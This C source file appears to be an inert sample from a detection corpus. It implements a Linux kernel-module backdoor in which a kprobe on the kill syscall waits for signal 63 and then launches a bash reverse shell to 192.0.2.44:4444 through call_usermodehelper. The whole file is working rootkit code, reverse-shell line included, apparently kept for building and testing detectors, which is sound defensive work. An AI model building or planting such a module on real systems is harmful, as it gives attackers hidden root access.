/*
 * Backsight corpus sample: kernel/kprobe-shell  (INERT - compiled only, never loaded)
 *
 * Written from the public description of signal-triggered kernel backdoors: a kprobe on the
 * kill system call watches for an unused signal number; when it comes, a work item starts a
 * reverse shell through call_usermodehelper("/bin/bash", { "/bin/bash", "-c", ... }). No hook
 * of the call itself, no packet: the trigger is any process calling kill with that signal.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "kprobe_shell");
MODINFO(vermagic, CORPUS_VERMAGIC);
DEFINE_THIS_MODULE("kprobe_shell");

#if defined(__x86_64__)
#define KILL_SYSCALL "__x64_sys_kill"
#else
#define KILL_SYSCALL "__arm64_sys_kill"
#endif
#define TRIGGER_SIGNAL 63

static struct work_struct shell_work;

static void start_shell(struct work_struct *work)
{
	char *argv[] = { "/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.44/4444 0>&1", NULL };
	char *envp[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/", NULL };
	(void)work;
	call_usermodehelper(argv[0], argv, envp, UMH_NO_WAIT);
}

static int before_kill(struct kprobe *probe, struct pt_regs *regs)
{
	/* The syscall wrapper's one argument is the caller's saved registers. */
	struct pt_regs *caller = (struct pt_regs *)REGS_ARG1(regs);
	(void)probe;
	if (REGS_ARG2(caller) == TRIGGER_SIGNAL) {
		shell_work.func = start_shell;
		queue_work_on(WORK_CPU_UNBOUND, system_wq, &shell_work);
	}
	return 0;
}

static struct kprobe probe = {
	.symbol_name = KILL_SYSCALL,
	.pre_handler = before_kill,
};

int init_module(void)
{
	return register_kprobe(&probe);
}

void cleanup_module(void)
{
	unregister_kprobe(&probe);
}
